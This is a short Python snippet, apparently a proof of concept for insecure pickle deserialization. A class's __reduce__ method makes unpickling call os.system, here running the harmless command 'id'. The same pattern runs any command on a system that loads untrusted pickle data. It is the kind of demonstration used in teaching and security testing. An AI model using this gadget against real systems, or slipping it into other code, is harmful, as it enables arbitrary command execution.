import os, pickle

class Boom:
    def __reduce__(self):
        return (os.system, ("id",))

pickle.loads(pickle.dumps(Boom()))
